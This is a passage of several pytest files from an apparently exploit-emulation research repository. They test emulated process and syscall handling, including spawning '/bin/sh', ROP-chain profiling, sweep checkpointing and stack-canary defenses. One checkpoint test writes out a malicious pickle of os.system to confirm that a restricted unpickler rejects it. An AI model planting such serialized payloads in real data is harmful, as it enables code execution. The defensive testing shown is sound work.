
def make_process(arch="x86"):
    space = AddressSpace()
    space.map_new("code", 0x1000, 0x1000, Perm.RWX)
    space.map_new("stack", 0x20000, 0x10000, Perm.RW | Perm.X)
    process = Process(arch, space)
    process.pc = 0x1000
    process.sp = 0x2F000
    return process


class TestProcess:
    def test_pids_are_unique(self):
        assert make_process().pid != make_process().pid

    def test_push_pop_u32(self):
        process = make_process()
        process.push_u32(0xAABBCCDD)
        assert process.pop_u32() == 0xAABBCCDD
        assert process.sp == 0x2F000

    def test_push_bytes_unaligned(self):
        process = make_process()
        process.push_bytes(b"abc")
        assert process.sp == 0x2F000 - 3
        assert process.memory.read(process.sp, 3) == b"abc"

    def test_spawn_record_shell_detection(self):
        process = make_process()
        record = process.record_spawn("/bin/sh", ())
        assert record.is_shell and record.is_root_shell
        assert process.spawned_root_shell

    def test_non_root_shell_not_root(self):
        space = AddressSpace()
        space.map_new("stack", 0x20000, 0x1000, Perm.RW)
        process = Process("x86", space, uid=1000)
        record = process.record_spawn("/bin/sh", ())
        assert record.is_shell and not record.is_root_shell

    def test_non_shell_spawn(self):
        process = make_process()
        assert not process.record_spawn("/usr/bin/id", ()).is_shell

    def test_exit_state(self):
        process = make_process()
        assert process.alive
        process.record_exit(code=1, signal="SIGSEGV")
        assert not process.alive
        assert process.exit.signal == "SIGSEGV"

    def test_pc_sp_aliases_per_arch(self):
        x = make_process("x86")
        x.pc = 0x1234
        assert x.registers["eip"] == 0x1234
        a = make_process("arm")
        a.sp = 0x2000
        assert a.registers["r13"] == 0x2000

    def test_register_masking(self):
        process = make_process()
        process.registers["eax"] = 0x1_2345_6789
        assert process.registers["eax"] == 0x23456789

    def test_unknown_register_rejected(self):
        with pytest.raises(KeyError):
            make_process().registers["xmm0"]

    def test_unknown_arch_rejected(self):
        with pytest.raises(ValueError):
            Process("riscv", AddressSpace())


class TestSyscalls:
    def test_unknown_syscall_returns_enosys(self):
        process = make_process()
        assert dispatch(process, 999, (0, 0, 0)) == (-ENOSYS) & 0xFFFFFFFF

    def test_exit_stops(self):
        process = make_process()
        with pytest.raises(_EmulationStop) as stop:
            dispatch(process, 1, (7, 0, 0))
        assert stop.value.reason == "exit"
        assert process.exit.code == 7

    def test_execve_reads_argv_array(self):
        process = make_process()
        memory = process.memory
        memory.write_cstring(0x20000, b"/bin/sh")
        memory.write_cstring(0x20010, b"-i")
        memory.write_u32(0x20100, 0x20000)
        memory.write_u32(0x20104, 0x20010)
        memory.write_u32(0x20108, 0)
        with pytest.raises(_EmulationStop) as stop:
            dispatch(process, 11, (0x20000, 0x20100, 0))
        assert stop.value.reason == "execve"
        assert process.spawns[0].argv == ("/bin/sh", "-i")

    def test_execve_null_argv_accepted(self):
        process = make_process()
        process.memory.write_cstring(0x20000, b"/bin/sh")
        with pytest.raises(_EmulationStop):
            dispatch(process, 11, (0x20000, 0, 0))
        assert process.spawns[0].argv == ()

    def test_write_returns_length(self):
        assert dispatch(make_process(), 4, (1, 0x20000, 17)) == 17


class TestNativeAbi:
    def test_x86_args_read_from_stack(self):
        process = make_process("x86")
        process.push_u32(3)           # arg1
        process.push_u32(2)           # arg0
        process.push_u32(0x4444)      # return-address slot
        ctx = NativeCallContext(process)
        assert ctx.arg(0) == 2
        assert ctx.arg(1) == 3

    def test_arm_args_in_registers_then_stack(self):
        process = make_process("arm")
        for index in range(4):
            process.registers[f"r{index}"] = 10 + index
        process.push_u32(99)  # fifth argument
        ctx = NativeCallContext(process)
        assert [ctx.arg(i) for i in range(5)] == [10, 11, 12, 13, 99]

    def test_x86_return_pops_eip(self):
        process = make_process("x86")
        process.push_u32(0x1100)
        ctx = NativeCallContext(process)
        ctx.return_from_call(42)
        assert process.pc == 0x1100
        assert process.registers["eax"] == 42

    def test_arm_return_uses_lr(self):
        process = make_process("arm")
        process.registers["r14"] = 0x1200
        NativeCallContext(process).return_from_call(7)
        assert process.pc == 0x1200
        assert process.registers["r0"] == 7

    def test_native_invoked_at_registered_address(self):
        process = make_process("x86")
        calls = []

        def handler(ctx):
            calls.append(ctx.arg(0))
            return 123

        process.register_native(0x1000, NativeFunction("probe", handler))
        process.push_u32(55)          # arg0
        process.push_u32(0x1100)      # return address
        process.memory.write(0x1100, x86.hlt(), check=False)
        result = make_emulator(process).run()
        assert calls == [55]
        assert process.registers["eax"] == 123
        assert result.crashed  # ended at hlt after the native returned

    def test_native_redirecting_pc_skips_default_return(self):
        process = make_process("arm")

        def handler(ctx):
            ctx.process.pc = 0x1200
            return None

        process.register_native(0x1000, NativeFunction("jump", handler))
        process.memory.write(0x1200, arm.svc(0), check=False)
        process.registers["r7"] = 1  # exit(r0)
        result = make_emulator(process).run()
        assert result.reason == "exit"
