"""Supervised sweep execution: retries, timeouts, quarantine, resume.

The resilience contract under test: a trial that raises is retried
bit-identically and, past its budget, quarantined into a typed slot; a
hung or OS-killed worker surfaces as a missed heartbeat and costs only a
pool respawn; a SIGKILLed sweep resumes from its JSONL checkpoint into a
byte-identical artifact, re-executing only the unfinished trials.
"""

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from repro.core import (
    CheckpointMismatch,
    RunPolicy,
    SweepCheckpoint,
    TaskError,
    TrialFailure,
    grid_hash,
    load_checkpoint_results,
    run_chaos_sweep,
    run_supervised,
    run_tasks,
)
from repro.core import parallel as parallel_mod
from repro.exploit.bruteforce import BruteForceTrial
from repro.obs import Collector

REPO_ROOT = Path(__file__).resolve().parent.parent
FAST = RunPolicy(retries=0, backoff=0.0, poll_interval=0.005,
                 on_failure="quarantine")


# -- module-level workers (pool-picklable) ------------------------------------

def _square(value):
    return value * value


def _explode_on_odd(value):
    if value % 2:
        raise ValueError(f"odd task {value}")
    return value * 10


def _flaky_until_marker(task):
    """Fails until its marker file exists; creating it makes the retry pass.

    The marker crosses process boundaries, so the flake behaves the same
    under pool dispatch and in-process retry.
    """
    value, marker = task
    if not os.path.exists(marker):
        with open(marker, "w", encoding="utf-8") as handle:
            handle.write("tried")
        raise RuntimeError(f"transient fault on task {value}")
    return value * value


def _hang_on_seven(value):
    if value == 7:
        time.sleep(60.0)
    return value + 100


def _sleep_briefly(value):
    time.sleep(0.25)
    return value + 1000


def _die_on_three(value):
    if value == 3:
        os._exit(3)  # a worker the OS reaped: no exception, no result
    return value * 2


# -- satellite 1: strict-mode errors carry task context -----------------------

class TestTaskErrorContext:
    def test_sequential_error_names_index_and_seed(self):
        trials = [BruteForceTrial(victim_seed=40 + i, attacker_seed=1,
                                  max_attempts=4) for i in range(3)]

        def boom(trial):
            raise ValueError("nope")

        # Sequential fast path still wraps with context (worker is a
        # closure here, which only the in-process path allows).
        with pytest.raises(TaskError) as excinfo:
            run_tasks(boom, trials, workers=1)
        assert excinfo.value.index == 0
        assert excinfo.value.seed == 40  # victim_seed of task 0
        assert "seed 40" in str(excinfo.value)

    def test_pool_error_names_index(self):
        with pytest.raises(TaskError) as excinfo:
            run_tasks(_explode_on_odd, [0, 2, 4, 5, 6], workers=2,
                      policy=RunPolicy(poll_interval=0.005))
        assert excinfo.value.index == 3
        assert "odd task 5" in excinfo.value.failure.error

    def test_run_tasks_forces_strict_mode(self):
        # Even a quarantine policy cannot make run_tasks swallow failures.
        with pytest.raises(TaskError):
            run_tasks(_explode_on_odd, [1],
                      policy=RunPolicy(on_failure="quarantine"))


# -- tentpole: quarantine, retry, heartbeat -----------------------------------

class TestQuarantine:
    def test_failures_occupy_positional_slots(self):
        outcome = run_supervised(_explode_on_odd, [0, 1, 2, 3, 4],
                                 workers=1, policy=FAST)
        assert outcome.results[0] == 0
        assert isinstance(outcome.results[1], TrialFailure)
        assert outcome.results[2] == 20
        assert isinstance(outcome.results[3], TrialFailure)
        assert outcome.results[4] == 40
        assert [f.index for f in outcome.failures] == [1, 3]
        assert outcome.completed() == [0, 20, 40]
        assert not outcome.ok
        assert outcome.stats.quarantined == 2
        assert outcome.stats.executed == 3

    def test_quarantine_record_is_typed(self):
        outcome = run_supervised(_explode_on_odd, [5], workers=1, policy=FAST)
        failure = outcome.failures[0]
        assert failure.kind == "error"
        assert failure.attempts == 1
        assert "odd task 5" in failure.error
        assert "quarantined after 1 attempt(s)" in failure.describe()
        assert failure.to_dict()["index"] == 0

    def test_retry_results_bit_identical(self, tmp_path):
        markers = [str(tmp_path / f"marker-{i}") for i in range(6)]
        tasks = list(zip(range(6), markers))
        policy = RunPolicy(retries=1, backoff=0.0, poll_interval=0.005,
                           on_failure="quarantine")
        observer = Collector()
        outcome = run_supervised(_flaky_until_marker, tasks, workers=2,
                                 policy=policy, observer=observer)
        # Every trial failed once, then succeeded — with the same result a
        # never-faulting run produces.
        assert outcome.ok
        assert outcome.results == [v * v for v in range(6)]
        assert outcome.stats.retries == 6
        assert observer.metrics.value("sweep.retries") == 6
        assert observer.metrics.value("sweep.quarantined") == 0

    def test_retry_budget_exhaustion_quarantines(self, tmp_path):
        # retries=0: the first transient fault is already terminal.
        marker = str(tmp_path / "never-helped")
        outcome = run_supervised(_flaky_until_marker, [(1, marker)],
                                 workers=1, policy=FAST)
        assert isinstance(outcome.results[0], TrialFailure)
        assert outcome.failures[0].attempts == 1

    def test_hung_worker_times_out_and_others_complete(self):
        policy = RunPolicy(timeout=0.8, retries=0, backoff=0.0,
                           poll_interval=0.01, on_failure="quarantine")
        observer = Collector()
        outcome = run_supervised(_hang_on_seven, [1, 7, 2], workers=2,
                                 policy=policy, observer=observer)
        assert outcome.results[0] == 101
        assert outcome.results[2] == 102
        failure = outcome.results[1]
        assert isinstance(failure, TrialFailure)
        assert failure.kind == "timeout"
        assert "deadline" in failure.error
        assert outcome.stats.timeouts == 1
        assert outcome.stats.respawns >= 1
        assert observer.metrics.value("sweep.timeouts") == 1
        assert observer.metrics.value("sweep.respawns") >= 1

    def test_deadline_clocks_execution_not_queue_time(self):
        # 8 x 0.25s trials over 2 workers is ~1s of sweep wall-clock with
        # a 0.6s per-trial timeout: if deadlines started at submission
        # (the whole queue dispatched at once), every queued trial would
        # be spuriously declared hung.  Bounded in-flight dispatch means
        # the deadline only ever covers actual execution.
        policy = RunPolicy(timeout=0.6, retries=0, backoff=0.0,
                           poll_interval=0.01, on_failure="quarantine")
        outcome = run_supervised(_sleep_briefly, list(range(8)), workers=2,
                                 policy=policy)
        assert outcome.ok
        assert outcome.results == [v + 1000 for v in range(8)]
        assert outcome.stats.timeouts == 0
        assert outcome.stats.respawns == 0

    def test_keyboard_interrupt_is_not_supervised(self):
        # ^C is the operator stopping the sweep, not a trial failing: it
        # must propagate instead of being retried and quarantined.
        def interrupt(value):
            raise KeyboardInterrupt

        policy = RunPolicy(retries=3, backoff=0.0, on_failure="quarantine")
        with pytest.raises(KeyboardInterrupt):
            run_supervised(interrupt, [1, 2, 3], workers=1, policy=policy)

    def test_worker_killed_midtrial_is_detected(self):
        # os._exit(3) in the pool child: the task can never complete, so
        # the heartbeat deadline is the detection path.
        policy = RunPolicy(timeout=1.0, retries=0, backoff=0.0,
                           poll_interval=0.01, on_failure="quarantine")
        outcome = run_supervised(_die_on_three, [1, 3, 5], workers=2,
                                 policy=policy)
        assert outcome.results[0] == 2
        assert outcome.results[2] == 10
        assert isinstance(outcome.results[1], TrialFailure)
        assert outcome.stats.respawns >= 1


class TestFallback:
    def test_pool_creation_failure_falls_back_loudly(self, monkeypatch):
        class _BrokenContext:
            def Pool(self, processes):
                raise OSError("no POSIX semaphores in this sandbox")

        monkeypatch.setattr(parallel_mod, "_pool_context",
                            lambda: _BrokenContext())
        observer = Collector()
        outcome = run_supervised(_square, [1, 2, 3, 4], workers=4,
                                 policy=FAST, observer=observer)
        assert outcome.results == [1, 4, 9, 16]
        assert outcome.ok
        assert "semaphores" in outcome.stats.fallback_reason
        assert observer.metrics.value("sweep.fallback") == 1
        events = [e for e in observer.bus.events if e.kind == "sweep.fallback"]
        assert events and events[0].detail["stage"] == "pool-creation"


# -- tentpole: the checkpoint journal -----------------------------------------

class TestCheckpoint:
    def test_journal_round_trip(self, tmp_path):
        path = str(tmp_path / "sweep.ckpt")
        tasks = [10, 11, 12]
        digest = grid_hash(tasks)
        with SweepCheckpoint(path, experiment="unit", grid_hash=digest,
                             total=3, seed=9) as journal:
            outcome = run_supervised(_square, tasks, workers=1, policy=FAST,
                                     checkpoint=journal)
        assert outcome.results == [100, 121, 144]
        lines = Path(path).read_text().splitlines()
        header = json.loads(lines[0])
        assert header["schema"] == "repro-sweep-checkpoint/v1"
        assert header["experiment"] == "unit"
        assert header["grid_hash"] == digest
        assert header["total"] == 3
        assert len(lines) == 4  # header + one line per trial
        assert load_checkpoint_results(path) == {0: 100, 1: 121, 2: 144}

    def test_resume_short_circuits_completed_trials(self, tmp_path):
        path = str(tmp_path / "sweep.ckpt")
        tasks = [10, 11, 12]
        digest = grid_hash(tasks)
        with SweepCheckpoint(path, experiment="unit", grid_hash=digest,
                             total=3) as journal:
            journal.record(0, 100)
            journal.record(2, 144)
        with SweepCheckpoint(path, experiment="unit", grid_hash=digest,
                             total=3, resume=True) as journal:
            assert journal.completed == {0: 100, 2: 144}
            observer = Collector()
            outcome = run_supervised(_square, tasks, workers=1, policy=FAST,
                                     checkpoint=journal, observer=observer)
        assert outcome.results == [100, 121, 144]
        assert outcome.stats.resumed == 2
        assert outcome.stats.executed == 1  # only trial 1 re-ran
        assert observer.metrics.value("sweep.resumed_trials") == 2

    def test_resume_rejects_different_grid(self, tmp_path):
        path = str(tmp_path / "sweep.ckpt")
        with SweepCheckpoint(path, experiment="unit",
                             grid_hash=grid_hash([1, 2]), total=2) as journal:
            journal.record(0, 1)
        with pytest.raises(CheckpointMismatch, match="grid_hash"):
            SweepCheckpoint(path, experiment="unit",
                            grid_hash=grid_hash([3, 4]), total=2, resume=True)

    def test_resume_rejects_different_experiment(self, tmp_path):
        path = str(tmp_path / "sweep.ckpt")
        digest = grid_hash([1])
        SweepCheckpoint(path, experiment="E16.chaos", grid_hash=digest,
                        total=1).close()
        with pytest.raises(CheckpointMismatch, match="experiment"):
            SweepCheckpoint(path, experiment="E15.entropy", grid_hash=digest,
                            total=1, resume=True)

    def test_torn_trailing_line_is_ignored(self, tmp_path):
        path = str(tmp_path / "sweep.ckpt")
        digest = grid_hash([10, 11])
        with SweepCheckpoint(path, experiment="unit", grid_hash=digest,
                             total=2) as journal:
            journal.record(0, 100)
        with open(path, "a", encoding="utf-8") as handle:
            handle.write('{"index": 1, "crc": 0, "payl')  # SIGKILL mid-write
        with SweepCheckpoint(path, experiment="unit", grid_hash=digest,
                             total=2, resume=True) as journal:
            assert journal.completed == {0: 100}

    def test_resume_missing_file_starts_fresh(self, tmp_path):
        path = str(tmp_path / "never-written.ckpt")
        with SweepCheckpoint(path, experiment="unit",
                             grid_hash=grid_hash([1]), total=1,
                             resume=True) as journal:
            assert journal.completed == {}
            journal.record(0, 7)
        assert load_checkpoint_results(path) == {0: 7}

    def test_resume_header_only_journal_writes_header_once(self, tmp_path):
        # A run killed before its first trial leaves a header-only file;
        # resuming it must append to the existing header, not a second one.
        path = str(tmp_path / "sweep.ckpt")
        digest = grid_hash([1, 2])
        SweepCheckpoint(path, experiment="unit", grid_hash=digest,
                        total=2).close()
        with SweepCheckpoint(path, experiment="unit", grid_hash=digest,
                             total=2, resume=True) as journal:
            journal.record(0, 10)
        lines = Path(path).read_text().splitlines()
        headers = [line for line in lines if "schema" in json.loads(line)]
        assert len(lines) == 2  # one header + one trial
        assert len(headers) == 1

    def test_tampered_payload_cannot_execute_code(self, tmp_path):
        # The CRC is integrity, not authentication: a hostile journal with
        # a *valid* CRC over a malicious pickle must fail to unpickle, not
        # invoke the callable it smuggles in.
        import base64
        import binascii
        import pickle

        from repro.core.resume import _decode_payload

        path = str(tmp_path / "hostile.ckpt")
        digest = grid_hash([1])
        with SweepCheckpoint(path, experiment="unit", grid_hash=digest,
                             total=1) as journal:
            blob = pickle.dumps(os.system)
            journal._append({
                "index": 0,
                "crc": binascii.crc32(blob) & 0xFFFFFFFF,
                "payload": base64.b64encode(blob).decode("ascii"),
            })
        # The loader skips the hostile line (trial re-executes) ...
        assert load_checkpoint_results(path) == {}
        # ... because the restricted unpickler refuses the global.
        record = json.loads(Path(path).read_text().splitlines()[1])
        with pytest.raises(pickle.UnpicklingError, match="allowlist"):
            _decode_payload(record)


# -- acceptance: kill mid-sweep, resume, byte-identical artifact --------------

def _run_chaos_cli(tmp_path, *extra, env_extra=None, name="out"):
    env = dict(os.environ)
    env["PYTHONPATH"] = str(REPO_ROOT / "src")
    env.pop("REPRO_SWEEP_KILL_AFTER", None)
    if env_extra:
        env.update(env_extra)
    return subprocess.run(
        [sys.executable, "-m", "repro", "chaos",
         "--rates", "0,0.2,0.5", "--seed", "7", "--queries", "5",
         "--attack-budget", "5", "--workers", "2", "--json", *extra],
        capture_output=True, text=True, env=env, cwd=str(tmp_path),
        timeout=120,
    )


class TestKillAndResume:
    def test_sigkilled_sweep_resumes_byte_identical(self, tmp_path):
        clean = _run_chaos_cli(tmp_path)
        assert clean.returncode == 0, clean.stderr

        ckpt = str(tmp_path / "chaos.ckpt")
        killed = _run_chaos_cli(tmp_path, "--checkpoint", ckpt,
                                env_extra={"REPRO_SWEEP_KILL_AFTER": "1"})
        assert killed.returncode == -9  # SIGKILL, mid-sweep
        journaled = load_checkpoint_results(ckpt)
        assert len(journaled) == 1  # died right after the first journal line

        resumed = _run_chaos_cli(tmp_path, "--resume", ckpt)
        assert resumed.returncode == 0, resumed.stderr
        assert resumed.stdout == clean.stdout  # byte-identical artifact
        assert "1 resumed" in resumed.stderr
        # Only the two unfinished trials re-executed.
        assert len(load_checkpoint_results(ckpt)) == 3

    def test_checkpoint_refuses_to_truncate_without_resume(self, tmp_path):
        ckpt = str(tmp_path / "chaos.ckpt")
        killed = _run_chaos_cli(tmp_path, "--checkpoint", ckpt,
                                env_extra={"REPRO_SWEEP_KILL_AFTER": "1"})
        assert killed.returncode == -9
        rerun = _run_chaos_cli(tmp_path, "--checkpoint", ckpt)
        assert rerun.returncode == 2
        assert "--resume" in rerun.stderr


class TestChaosParity:
    def test_sequential_sweep_honors_policy_and_health_observer(self):
        # A plain workers=1 sweep with a supervision policy must still
        # route through the supervised runner: the CLI's --retries /
        # --trial-timeout and health counters cannot silently no-op.
        plain = run_chaos_sweep(rates=[0.0, 0.3], seed=11, queries_per_rate=5,
                                attack_budget=5, workers=1)
        sweep_observer = Collector()
        supervised = run_chaos_sweep(
            rates=[0.0, 0.3], seed=11, queries_per_rate=5, attack_budget=5,
            workers=1, policy=RunPolicy(retries=2, on_failure="quarantine"),
            sweep_observer=sweep_observer)
        assert supervised.cells == plain.cells
        assert supervised.health is not None
        assert supervised.health.executed == 2
        assert sweep_observer.metrics.value("sweep.quarantined") == 0

    def test_checkpointed_parallel_matches_sequential(self, tmp_path):
        plain = run_chaos_sweep(rates=[0.0, 0.3], seed=11, queries_per_rate=5,
                                attack_budget=5, workers=1)
        journaled = run_chaos_sweep(rates=[0.0, 0.3], seed=11,
                                    queries_per_rate=5, attack_budget=5,
                                    workers=2,
                                    checkpoint=str(tmp_path / "c.ckpt"))
        assert (json.dumps(plain.to_dict(), sort_keys=True)
                == json.dumps(journaled.to_dict(), sort_keys=True))
        assert journaled.health is not None
        assert journaled.health.executed == 2
        assert journaled.failures == []
