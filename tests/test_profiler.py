"""Deterministic profiling: attribution accuracy and observation purity.

The profiler's contract has three legs, and this file pins all of them:
its step accounting must agree exactly with the run loop's (and with the
``step_timer`` benchmark path, which forces per-instruction execution),
its attribution output must be byte-identical with block dispatch on or
off and across worker counts, and attaching it must change no outcome —
the observed scenarios behind E2, E3, and E16 produce the same verdicts
profiled or not.
"""

import json

import pytest

from repro.cpu import BlockCache, Process, make_emulator
from repro.mem import AddressSpace, Perm, Segment
from repro.obs import (
    CACHE_LINES,
    Collector,
    DeterministicProfiler,
    ProfileData,
    folded_stacks,
    validate_speedscope,
)

TIGHT_LOOP = b"\x40" * 8 + b"\xeb\xf6"  # 8x inc eax; jmp -10


def loop_process():
    space = AddressSpace()
    space.map(Segment(".text", 0x1000, 0x100, Perm.RX))
    space.write(0x1000, TIGHT_LOOP, check=False)
    process = Process("x86", space, name="profiler-test")
    process.pc = 0x1000
    return process


def profiled_run(max_steps, *, sample_interval=0, blocks=True):
    process = loop_process()
    process.block_cache.enabled = blocks
    profiler = DeterministicProfiler(sample_interval=sample_interval)
    process.profiler = profiler
    result = make_emulator(process).run(max_steps=max_steps)
    return result, profiler


class _StepTimer:
    """Minimal ``step_timer`` stand-in: counts per-step observations."""

    def __init__(self):
        self.count = 0

    def observe(self, value):
        self.count += 1


class TestStepAccounting:
    def test_step_timer_count_equals_profiler_summed_steps(self):
        # The benchmark path (step_timer) forces per-instruction
        # execution; the profiler keeps blocks enabled.  Both must
        # account for exactly the same number of step-budget units.
        timed = loop_process()
        timer = _StepTimer()
        emulator = make_emulator(timed)
        emulator.step_timer = timer
        timed_result = emulator.run(max_steps=500)

        result, profiler = profiled_run(500)
        assert timer.count == timed_result.steps == 500
        assert profiler.data.steps == result.steps == timer.count
        assert sum(profiler.data.opcodes.values()) == timer.count

    def test_block_and_interpreter_paths_sum_to_total(self):
        result, profiler = profiled_run(500)
        data = profiler.data
        assert data.block_steps > 0
        assert data.block_steps < data.steps  # budget tail single-steps
        assert sum(stats["steps"] for stats in data.blocks.values()) \
            == data.block_steps
        assert sum(data.heat.values()) == data.steps

    def test_native_steps_appear_as_opcode_lines(self):
        from repro.core import run_observed_attack

        collector = Collector()
        profiler = collector.attach_profiler(DeterministicProfiler())
        # The W^X+ASLR chain pivots through libc-model natives (PLT
        # thunks), each of which costs one step unit.
        run_observed_attack(level_label="wx+aslr", observer=collector)
        data = profiler.data
        native_lines = {name: count for name, count in data.opcodes.items()
                       if name.startswith("native:")}
        assert native_lines, "ROP chain run should hit libc-model natives"
        assert sum(native_lines.values()) == data.native_steps
        assert data.native_steps + sum(
            count for name, count in data.opcodes.items()
            if not name.startswith("native:")) == data.steps


class TestBlocksParity:
    """Attribution output is byte-identical with blocks on or off."""

    def _attack_profile(self):
        from repro.core import run_observed_attack

        collector = Collector()
        profiler = collector.attach_profiler(DeterministicProfiler())
        run = run_observed_attack(observer=collector)
        return run, profiler

    def test_folded_and_opcode_tables_identical(self, monkeypatch):
        monkeypatch.setattr(BlockCache, "enabled_by_default", True)
        run_on, prof_on = self._attack_profile()
        monkeypatch.setattr(BlockCache, "enabled_by_default", False)
        run_off, prof_off = self._attack_profile()
        assert prof_on.folded() == prof_off.folded()
        assert prof_on.folded()  # and non-empty
        assert prof_on.data.opcode_table() == prof_off.data.opcode_table()
        assert prof_on.data.heat == prof_off.data.heat
        assert prof_on.data.steps == prof_off.data.steps
        assert prof_on.data.sample_count == prof_off.data.sample_count
        # Outcomes too, not just attribution.
        assert run_on.event.kind == run_off.event.kind
        assert prof_on.data.block_steps > 0
        assert prof_off.data.block_steps == 0

    def test_synthetic_loop_attribution_identical(self):
        _result, prof_on = profiled_run(300, sample_interval=23)
        _result, prof_off = profiled_run(300, sample_interval=23, blocks=False)
        assert folded_stacks(prof_on.data) == folded_stacks(prof_off.data)
        assert prof_on.data.opcodes == prof_off.data.opcodes == {
            "inc": 267, "jmp": 33}
        assert prof_on.data.heat == prof_off.data.heat


class TestCacheReconciliation:
    def test_profiler_cache_lines_match_observer_counters(self):
        from repro.core import run_observed_attack

        collector = Collector()
        profiler = collector.attach_profiler(DeterministicProfiler())
        run_observed_attack(observer=collector)
        counters = collector.metrics.counters()
        for name in CACHE_LINES:
            assert profiler.data.cache.get(name, 0) == counters.get(name, 0), name
        assert profiler.data.cache["decode_cache_hits"] > 0


class TestWorkerMergeParity:
    def test_chaos_sweep_profile_merges_byte_identical(self):
        from repro.core import run_chaos_sweep

        kwargs = dict(queries_per_rate=6, attack_budget=6)
        profiles = {}
        reports = {}
        for workers in (1, 2):
            collector = Collector()
            profiler = collector.attach_profiler(DeterministicProfiler())
            reports[workers] = run_chaos_sweep(
                (0.0, 0.4), workers=workers, observer=collector, **kwargs)
            profiles[workers] = profiler
        assert profiles[1].folded() == profiles[2].folded()
        one = json.dumps(profiles[1].to_dict(), sort_keys=True)
        two = json.dumps(profiles[2].to_dict(), sort_keys=True)
        assert one == two
        assert reports[1].to_dict() == reports[2].to_dict()

    def test_merge_rejects_interval_mismatch(self):
        left = ProfileData(23)
        right = ProfileData(7)
        with pytest.raises(ValueError, match="sample_interval"):
            left.merge(right)

    def test_merge_is_pure_addition(self):
        _result, first = profiled_run(120, sample_interval=23)
        _result, second = profiled_run(300, sample_interval=23)
        _result, whole = profiled_run(420, sample_interval=23)
        merged = first.snapshot()
        merged.merge(second.snapshot())
        assert merged.steps == first.data.steps + second.data.steps
        assert merged.opcodes == {
            name: first.data.opcodes.get(name, 0)
            + second.data.opcodes.get(name, 0)
            for name in set(first.data.opcodes) | set(second.data.opcodes)}
        # Sanity: merging two runs is NOT one long run (the phase resets),
        # but the opcode totals still account for every step.
        assert sum(merged.opcodes.values()) == 420
        assert whole.data.steps == 420


class TestOutcomeParity:
    """Attaching a profiler changes no scenario outcome (E2/E3/E16)."""

    @pytest.mark.parametrize("level", ["none", "wx"])  # E2 / E3 scenarios
    def test_observed_attack_outcomes_identical(self, level):
        from repro.core import run_observed_attack

        outcomes = []
        for profiled in (False, True):
            collector = Collector()
            if profiled:
                collector.attach_profiler(DeterministicProfiler())
            run = run_observed_attack(level_label=level, observer=collector)
            counters = {
                name: value
                for name, value in collector.metrics.counters().items()
                if not name.startswith(("decode_cache_", "block_cache_"))
            }
            outcomes.append({
                "event": run.event.kind.value if run.event else None,
                "error": run.error,
                "exploit": run.exploit.name if run.exploit else None,
                "succeeded": run.succeeded,
                "spans": collector.tracer.to_dicts(),
                "counters": counters,
            })
        assert outcomes[0] == outcomes[1]

    def test_e16_chaos_table_identical(self):
        from repro.core import e16_chaos

        rows = []
        for profiled in (False, True):
            observer = Collector()
            if profiled:
                observer.attach_profiler(DeterministicProfiler())
            result = e16_chaos(rates=(0.0, 0.3), queries_per_rate=4,
                               attack_budget=4, sweep_observer=observer)
            rows.append(result.rows)
        assert rows[0] == rows[1]


class TestFlamegraphFormats:
    @pytest.mark.parametrize("arch", ["x86", "arm"])
    def test_folded_stacks_non_empty_and_well_formed(self, arch):
        from repro.core import run_observed_attack

        collector = Collector()
        profiler = collector.attach_profiler(DeterministicProfiler())
        run_observed_attack(arch=arch, observer=collector)
        folded = profiler.folded()
        assert folded.endswith("\n")
        lines = folded.strip().splitlines()
        assert lines, f"{arch} attack run produced no stack samples"
        total = 0
        for line in lines:
            stack, count = line.rsplit(" ", 1)
            assert stack  # symbolized frames, ';'-joined
            total += int(count)
        assert total == profiler.data.sample_count > 0

    @pytest.mark.parametrize("arch", ["x86", "arm"])
    def test_speedscope_document_validates(self, arch):
        from repro.core import run_observed_attack

        collector = Collector()
        profiler = collector.attach_profiler(DeterministicProfiler())
        run_observed_attack(arch=arch, observer=collector)
        document = profiler.speedscope(name=f"{arch} attack")
        assert validate_speedscope(document) == len(profiler.data.samples)
        weights = document["profiles"][0]["weights"]
        assert sum(weights) == profiler.data.sample_count

    def test_validate_speedscope_rejects_bad_documents(self):
        _result, profiler = profiled_run(300, sample_interval=23)
        document = profiler.speedscope()
        document["profiles"][0]["endValue"] += 1
        with pytest.raises(ValueError, match="endValue"):
            validate_speedscope(document)
        with pytest.raises(ValueError, match="schema"):
            validate_speedscope({"profiles": []})

    def test_sampling_disabled_yields_no_samples(self):
        _result, profiler = profiled_run(300, sample_interval=0)
        assert profiler.data.sample_count == 0
        assert profiler.folded() == ""
        assert profiler.data.steps == 300  # attribution still runs


class TestFlushCauseAttribution:
    def test_native_registration_attributed_separately(self):
        from repro.cpu.native import NativeFunction
        from repro.cpu.events import _EmulationStop

        process = loop_process()
        profiler = DeterministicProfiler(sample_interval=0)
        process.profiler = profiler
        emulator = make_emulator(process)
        emulator.run(max_steps=50)

        def handler(proc):
            raise _EmulationStop("exit", "probe")

        process.register_native(0x1002, NativeFunction("probe", handler))
        process.pc = 0x1000
        emulator.run(max_steps=50)
        assert profiler.data.cache["block_cache_native_flushes"] >= 1
        assert profiler.data.cache["block_cache_epoch_flushes"] == 0
