"""Protection profiles, canary, CFI, and software diversity."""

import random

import pytest

from repro.binfmt import build_connman
from repro.cpu import ControlFlowViolation, Process
from repro.cpu.events import CanaryClobbered
from repro.defenses import (
    FULL,
    NONE,
    PAPER_LEVELS,
    WX,
    WX_ASLR,
    ProtectionProfile,
    ShadowStackCfi,
    StackCanary,
    compare_builds,
    diversified_population,
)
from repro.mem import AddressSpace, Perm
from tests.conftest import fresh_daemon, loaded_pair


class TestProfiles:
    def test_paper_levels_order(self):
        labels = [label for label, _profile in PAPER_LEVELS]
        assert labels == ["none", "W^X", "W^X+ASLR"]

    def test_labels(self):
        assert NONE.label() == "none"
        assert WX.label() == "W^X"
        assert WX_ASLR.label() == "W^X+ASLR"
        assert "CFI" in FULL.label()
        assert "diversity#3" in ProtectionProfile(diversity_seed=3).label()

    def test_with_override(self):
        assert WX.with_(aslr=True) == WX_ASLR
        assert WX_ASLR.with_(aslr=False) == WX

    def test_profiles_hashable(self):
        assert len({NONE, WX, WX_ASLR, FULL}) == 4


class TestCanary:
    def make_process(self):
        space = AddressSpace()
        space.map_new("stack", 0x20000, 0x1000, Perm.RW)
        return Process("x86", space)

    def test_value_low_byte_zero(self):
        canary = StackCanary(random.Random(1))
        assert canary.value & 0xFF == 0

    def test_values_differ_per_boot(self):
        values = {StackCanary(random.Random(seed)).value for seed in range(16)}
        assert len(values) > 8

    def test_intact_frame_passes(self):
        process = self.make_process()
        canary = StackCanary(random.Random(2))
        canary.arm_frame(process, 0x20100)
